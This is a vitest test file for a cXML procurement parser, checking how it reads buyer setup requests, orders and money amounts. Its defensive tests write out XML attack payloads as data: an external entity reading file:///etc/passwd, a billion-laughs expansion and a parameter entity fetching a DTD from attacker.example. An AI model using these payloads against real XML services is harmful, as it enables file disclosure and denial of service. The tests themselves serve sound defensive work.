import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { CXML_BUYERS_DIR as BUYERS } from '../../../tests/support/shared-files';
import { centsToDecimal, decimalToCents } from './money';
import {
  CXML_MAX_BYTES,
  CxmlRejected,
  parseCxml,
  parseCxmlResponse,
  parsePunchOutOrderMessage,
  type CxmlRequest,
} from './index';

const buyerDocument = (file: string) => readFileSync(resolve(BUYERS, file), 'utf8');

function parsedAs<K extends CxmlRequest['kind']>(file: string, kind: K): Extract<CxmlRequest, { kind: K }> {
  const request = parseCxml(buyerDocument(file));
  expect(request.kind).toBe(kind);
  return request as Extract<CxmlRequest, { kind: K }>;
}

function rejection(document: string, parse: (text: string) => unknown = parseCxml): string {
  try {
    parse(document);
  } catch (error) {
    if (error instanceof CxmlRejected) return error.message;
    throw error;
  }
  throw new Error('The document was accepted');
}

const MINIMAL_SETUP = (doctype: string) => `<?xml version="1.0"?>
${doctype}
<cXML payloadID="1@x" timestamp="2026-11-23T10:00:00-06:00">
  <Header><From><Credential domain="NetworkId"><Identity>buyer</Identity></Credential></From>
  <To><Credential domain="DUNS"><Identity>shop</Identity></Credential></To>
  <Sender><Credential domain="NetworkId"><Identity>buyer</Identity><SharedSecret>s</SharedSecret></Credential><UserAgent>t</UserAgent></Sender></Header>
  <Request><PunchOutSetupRequest operation="create"><BuyerCookie>&xxe;</BuyerCookie>
  <BrowserFormPost><URL>https://buyer.example/return</URL></BrowserFormPost></PunchOutSetupRequest></Request>
</cXML>`;

describe('parseCxml: the documents real buyers send', () => {
  it("reads Coupa's setup request: extrinsics, Contact before BrowserFormPost, a timestamp not in ISO form", () => {
    const request = parsedAs('setup-request.coupa.officeluv-cxml.xml', 'PunchOutSetupRequest');
    expect(request).toMatchObject({
      payloadId: '1211221788.71299@ip-10-251-122-83',
      timestamp: 'Mon May 19 18:29:48 +0000 2008',
      operation: 'create',
      buyerCookie: 'c64af92dc27e68172e030d3dfd1bc944',
      returnUrl: 'https://qa.coupahost.com/punchout/checkout/4',
      from: [{ domain: 'DUNS', identity: 'coupa-t' }],
      to: [{ domain: 'DUNS', identity: 'coupa-t' }],
      sender: {
        credentials: [{ domain: 'DUNS', identity: 'coupa-t', sharedSecret: 'test' }],
        userAgent: 'Coupa Procurement 1.0',
      },
      deploymentMode: 'production',
      extrinsics: {
        FirstName: 'Jim',
        LastName: 'Halpert',
        UniqueName: 'jim',
        UserEmail: 'noah+jim@coupa.com',
        User: 'jim',
        BusinessUnit: 'COUPA',
      },
      contact: { name: 'jim', email: 'noah+jim@coupa.com' },
      itemsOut: [],
    });
    expect(request.shipTo).toBeUndefined();
  });

  it('reads a setup request with no DOCTYPE, URLs wrapped in whitespace and a ShipTo', () => {
    const request = parsedAs('setup-request.iesa-shipto.officeluv-cxml.xml', 'PunchOutSetupRequest');
    expect(request.returnUrl).toBe('http://return_to_supplier_url.com');
    expect(request.buyerCookie).toBe('demoSCAWIGP');
    expect(request.sender.credentials).toEqual([
      { domain: 'IESAnetworkUserID', identity: '88888888', sharedSecret: '{shared secret in here}' },
    ]);
    expect(request.contact).toBeNull();
    expect(request.shipTo).toEqual({
      name: 'jmadden',
      deliverTo: ['j maddedn'],
      street: ['333 East Hill Dr'],
      city: 'san leandro',
      state: 'ca',
      postalCode: '22222',
      country: 'United States',
      countryCode: 'US',
      email: 'jmadden@coupa1.com',
      phone: '+1 855 8671234',
    });
  });

  it('reads the ItemOut lines and SelectedItem of a setup request (an edit or inspect request brings the cart back so)', () => {
    const request = parsedAs('setup-request.itemout-selecteditem.FriendsOfCXML-cxml-php.xml', 'PunchOutSetupRequest');
    expect(request).toMatchObject({
      deploymentMode: 'test',
      timestamp: '2023-01-23T16:00:06-01:00',
      extrinsics: { UserEmail: 'john-doe@domain.com' },
    });
    expect(request.selectedItem).toEqual({ supplierPartId: '4545321' });
    expect(request.shipTo?.deliverTo).toEqual(['Joe Smith', 'Mailstop M-543']);
    expect(request.itemsOut).toEqual([
      {
        quantity: 2,
        lineNumber: 10,
        supplierPartId: '5555',
        unitPrice: { cents: 76320, currency: 'EUR' },
        description: 'Excelsior Desk Chair',
        unitOfMeasure: 'EA',
        classification: { domain: 'UNSPSC', code: 'ean1234' },
        extrinsics: {},
      },
      {
        quantity: 1,
        lineNumber: 20,
        supplierPartId: '6666',
        unitPrice: { cents: 76420, currency: 'EUR' },
        description: '22Excelsior Desk Chair',
        unitOfMeasure: 'EA',
        classification: { domain: 'UNSPSC', code: 'ean1230' },
        extrinsics: {},
      },
    ]);
  });

  it("reads Coupa's OrderRequest: mixed-case domains, no SharedSecret, comments inside elements, money to cents", () => {
    const order = parsedAs('order-request.coupa-annotated-sample.officeluv-cxml.xml', 'OrderRequest');
    expect(order).toMatchObject({
      orderId: '6112',
      orderDate: '2008-01-07T09:14:50-08:00',
      type: 'new',
      total: { cents: 150500, currency: 'USD' },
      comments: 'header comment goes here if entered by user',
      from: [{ domain: 'duns', identity: 'dell' }],
      to: [{ domain: 'Duns', identity: '128293714' }],
      sender: { credentials: [{ domain: 'duns', identity: 'dell' }], userAgent: 'Coupa Procurement 1.0' },
      extrinsics: {},
    });
    expect(order.sender.credentials[0]).not.toHaveProperty('sharedSecret');
    expect(order.shipTo).toMatchObject({
      name: 'jmadden',
      street: ['333 East Hill Dr'],
      city: 'san leandro',
      email: 'jmadden@coupa1.com',
    });
    expect(order.billTo).toMatchObject({
      name: 'SOB1',
      deliverTo: ['Noah Sanity Attn: Noah Noah'],
      street: ['3420 Flatiron Way'],
      state: 'NJ',
      postalCode: '43023',
    });
    expect(
      order.itemsOut.map((line) => [
        line.lineNumber,
        line.quantity,
        line.supplierPartId,
        line.supplierPartAuxiliaryId,
        line.unitPrice,
      ]),
    ).toEqual([
      [1, 1, '223-4511', '1005379527029\\1', { cents: 150500, currency: 'USD' }],
      [2, 2, '223-4511', '1005379527029\\1', { cents: 150500, currency: 'USD' }],
    ]);
    expect(order.itemsOut[0]).toMatchObject({
      unitOfMeasure: 'EA',
      classification: { domain: 'UNSPSC', code: '44000000' },
    });
    expect(order.itemsOut[0]!.description).toMatch(/^OptiPlex 755 Energy Smart Minitower;/);
  });

  it('refuses the documents that are not requests with a reason: responses, a cart message, an invoice', () => {
    expect(rejection(buyerDocument('setup-response-200.DPassarelli-6-mils.xml'))).toBe(
      'The document is a cXML Response, not a request.',
    );
    expect(rejection(buyerDocument('setup-response-400.DPassarelli-6-mils.xml'))).toBe(
      'The document is a cXML Response, not a request.',
    );
    expect(rejection(buyerDocument('punchout-order-message.cxml-guide-workchairs.DPassarelli-6-mils.xml'))).toBe(
      'Unsupported cXML message: PunchOutOrderMessage.',
    );
    expect(rejection(buyerDocument('invoice-detail-request.coupa-tax-at-line.officeluv-cxml.xml'))).toBe(
      'Unsupported cXML request: InvoiceDetailRequest',
    );
  });
});

describe('parseCxmlResponse and parsePunchOutOrderMessage', () => {
  it('reads the reference setup responses: status, text, reason and the StartPage URL', () => {
    expect(parseCxmlResponse(buyerDocument('setup-response-200.DPassarelli-6-mils.xml'))).toEqual({
      payloadId: '933694607739',
      timestamp: '2002-08-15T08:46:00-07:00',
      code: 200,
      text: 'success',
      message: '',
      startPageUrl: 'http://xml.workchairs.com/retrieve?reqUrl=20626;Initial=TRUE',
    });
    expect(parseCxmlResponse(buyerDocument('setup-response-400.DPassarelli-6-mils.xml'))).toMatchObject({
      code: 400,
      text: 'Failure',
      message: 'XML document contained a doctype but failed validation.',
    });
    expect(rejection(buyerDocument('setup-request.coupa.officeluv-cxml.xml'), parseCxmlResponse)).toBe(
      'The document has no Response.',
    );
  });

  it("reads the cXML guide's PunchOutOrderMessage (Description with a ShortName, ten-digit UNSPSC)", () => {
    const message = parsePunchOutOrderMessage(
      buyerDocument('punchout-order-message.cxml-guide-workchairs.DPassarelli-6-mils.xml'),
    );
    expect(message).toMatchObject({
      buyerCookie: '1CX3L4843PPZO',
      operationAllowed: 'edit',
      total: { cents: 76320, currency: 'USD' },
    });
    expect(
      message.itemsIn.map((line) => [
        line.quantity,
        line.supplierPartId,
        line.supplierPartAuxiliaryId,
        line.unitPrice?.cents,
        line.description,
        line.classification?.code,
      ]),
    ).toEqual([
      [1, '5555', 'E000028901', 25440, 'Leather Reclining Desk Chair with Padded Arms', '5136030000'],
      [2, '5555', 'E000028901', 25440, 'Leather Reclining Desk Chair with Padded Arms', '5136030000'],
    ]);
  });
});

describe('parseCxml refuses what could hurt or is not cXML, with the reason for the Status text', () => {
  it('an external entity (XXE to file:///etc/passwd) is refused, never expanded', () => {
    const xxe = MINIMAL_SETUP('<!DOCTYPE cXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>');
    expect(rejection(xxe)).toBe('Document type declarations with entities are not accepted.');
  });

  it('billion laughs is refused before any expansion', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE cXML [',
      '<!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
      ']>',
      '<cXML payloadID="1" timestamp="t"><Header/><Request>&lol9;</Request></cXML>',
    ].join('\n');
    expect(rejection(lol)).toBe('Document type declarations with entities are not accepted.');
  });

  it('a DOCTYPE with an internal subset is refused even without entities; a parameter entity too', () => {
    expect(rejection(MINIMAL_SETUP('<!DOCTYPE cXML [<!ELEMENT cXML ANY>]>'))).toBe(
      'Document type declarations with an internal subset are not accepted.',
    );
    expect(
      rejection(MINIMAL_SETUP('<!DOCTYPE cXML [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>')),
    ).toBe('Document type declarations with entities are not accepted.');
  });

  it('a reference to an entity the external DTD might declare stays text: the DTD is never read', () => {
    const request = parseCxml(MINIMAL_SETUP('<!DOCTYPE cXML SYSTEM "file:///etc/passwd">'));
    expect(request).toMatchObject({ kind: 'PunchOutSetupRequest', buyerCookie: '&xxe;' });
  });

  it('a document over 4 MB is refused, counted in UTF-8 bytes', () => {
    const padding = (size: number, unit: string) => `<!--${unit.repeat(size)}-->`;
    const valid = buyerDocument('setup-request.coupa.officeluv-cxml.xml');
    expect(rejection(valid + padding(CXML_MAX_BYTES, 'x'))).toBe(
      `The document is larger than ${CXML_MAX_BYTES} bytes.`,
    );
    // Three-byte characters, a third of the limit and more: under it in characters, over it in bytes.
    expect(rejection(valid + padding(CXML_MAX_BYTES / 3 + 1, '€'))).toBe(
      `The document is larger than ${CXML_MAX_BYTES} bytes.`,
    );
    expect(parseCxml(valid + padding(1000, '€')).kind).toBe('PunchOutSetupRequest');
  });

  it('text that is not XML, another root, several roots, no Header or Request', () => {
    expect(rejection('')).toMatch(/^The document is not well-formed XML/);
    expect(rejection('{"cXML": true}')).toMatch(/^The document is not well-formed XML/);
    expect(rejection('<cXML><Header></cXML>')).toMatch(/^The document is not well-formed XML: .*\(line 1\)\.$/);
    // The validator quotes every open tag: the reason stays one short line.
    const unclosed = rejection(`<cXML>${'<a>'.repeat(100_000)}`);
    expect(unclosed).toMatch(/^The document is not well-formed XML: .{1,200} \(line 1\)\.$/);
    expect(rejection(`<cXML>${'<a>'.repeat(101)}${'</a>'.repeat(101)}</cXML>`)).toBe(
      'The document could not be read as XML: Maximum nested tags exceeded',
    );
    expect(rejection('<html><body>hi</body></html>')).toBe('The document is not cXML: its root element is html.');
    expect(rejection('<cXML payloadID="1"/><cXML payloadID="2"/>')).toBe(
      'The document is not cXML: it needs one cXML root element.',
    );
    expect(rejection('<cXML payloadID="1" timestamp="t"><Request/></cXML>')).toBe('The document has no Header.');
    const noRequest = buyerDocument('setup-request.coupa.officeluv-cxml.xml').replace(
      /<Request>[\s\S]*<\/Request>/,
      '',
    );
    expect(rejection(noRequest)).toBe('The document has no Request.');
  });

  it('other requests and operations are refused by name', () => {
    const coupa = buyerDocument('setup-request.coupa.officeluv-cxml.xml');
    expect(
      rejection(
        coupa.replace(/<PunchOutSetupRequest operation="create">[\s\S]*<\/PunchOutSetupRequest>/, '<ProfileRequest/>'),
      ),
    ).toBe('Unsupported cXML request: ProfileRequest');
    expect(rejection(coupa.replace('operation="create"', 'operation="source"'))).toBe(
      "Unsupported PunchOutSetupRequest operation: 'source'.",
    );
    expect(rejection(coupa.replace(/<BrowserFormPost>[\s\S]*<\/BrowserFormPost>/, ''))).toBe(
      'The document has no PunchOutSetupRequest BrowserFormPost.',
    );
  });

  it('malformed money and quantities are refused naming the element', () => {
    const order = buyerDocument('order-request.coupa-annotated-sample.officeluv-cxml.xml');
    expect(
      rejection(order.replace('<Money currency="USD">1505.0</Money>', '<Money currency="USD">1,505.00</Money>')),
    ).toBe("Total Money is not a number: '1,505.00'.");
    expect(
      rejection(order.replace('<Money currency="USD">1505.0</Money>', '<Money currency="USD">15.055</Money>')),
    ).toBe("Total Money has more than two decimals: '15.055'.");
    expect(rejection(order.replace('<Money currency="USD">1505.0</Money>', '<Money>1505.0</Money>'))).toBe(
      'Total Money has no currency.',
    );
    expect(rejection(order.replace('quantity="2"', 'quantity="two"'))).toBe(
      "ItemOut 2 quantity is not a positive number: 'two'.",
    );
    expect(rejection(order.replace('quantity="1"', 'quantity="0"'))).toBe(
      "ItemOut 1 quantity is not a positive number: '0'.",
    );
    const secondPrice = order.lastIndexOf('<Money currency="USD">1505.0</Money>', order.lastIndexOf('<Charge>'));
    expect(
      rejection(`${order.slice(0, secondPrice)}<Money currency="USD">1e3</Money>${order.slice(secondPrice + 36)}`),
    ).toBe("ItemOut 2 UnitPrice Money is not a number: '1e3'.");
  });
});

describe('parseCxml is lenient where buyers differ', () => {
  it('accepts a byte order mark, character references and entities in text, and an unknown DOCTYPE URL it never reads', () => {
    const coupa = buyerDocument('setup-request.coupa.officeluv-cxml.xml')
      .replace('http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd', 'file:///etc/passwd')
      .replace(
        '<Extrinsic name="User">jim</Extrinsic>',
        '<Extrinsic name="User">Jim &amp; Pam &#60;3 &#x263A; &amp;#60;</Extrinsic>',
      );
    const request = parseCxml(`\uFEFF${coupa}`);
    expect(request.extrinsics.User).toBe('Jim & Pam <3 ☺ &#60;');
  });

  it('reads operations, deployment modes and order types in any case, and a timestamp without a zone as sent', () => {
    const coupa = buyerDocument('setup-request.coupa.officeluv-cxml.xml')
      .replace('operation="create"', 'operation="Edit"')
      .replace('<Request>', '<Request deploymentMode="TEST">');
    expect(parseCxml(coupa)).toMatchObject({ operation: 'edit', deploymentMode: 'test' });
    const order = buyerDocument('order-request.coupa-annotated-sample.officeluv-cxml.xml')
      .replace('type="new"', 'type="update"')
      .replace('timestamp="2008-01-07T09:14:50-08:00"', 'timestamp="2008-01-07T09:14:50"');
    expect(parseCxml(order)).toMatchObject({ type: 'update', timestamp: '2008-01-07T09:14:50' });
  });
});

describe('money text and cents', () => {
  it('reads decimals exactly', () => {
    expect(
      ['1505.0', '763.20', '365', '.5', '0.07', ' 12.5 ', '12.340', '-5.00', '+3'].map((text) =>
        decimalToCents(text, 'Money'),
      ),
    ).toEqual([150500, 76320, 36500, 50, 7, 1250, 1234, -500, 300]);
    for (const bad of ['', '.', '1e3', '0x10', '1,000', '12.345', 'NaN', '١٢'])
      expect(() => decimalToCents(bad, 'Money')).toThrow(CxmlRejected);
  });

  it('round-trips every amount in cents', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: -1e12, max: 1e12 }),
        (cents) => decimalToCents(centsToDecimal(cents), 'Money') === cents,
      ),
    );
    expect(centsToDecimal(150500)).toBe('1505.00');
    expect(centsToDecimal(-50)).toBe('-0.50');
  });
});
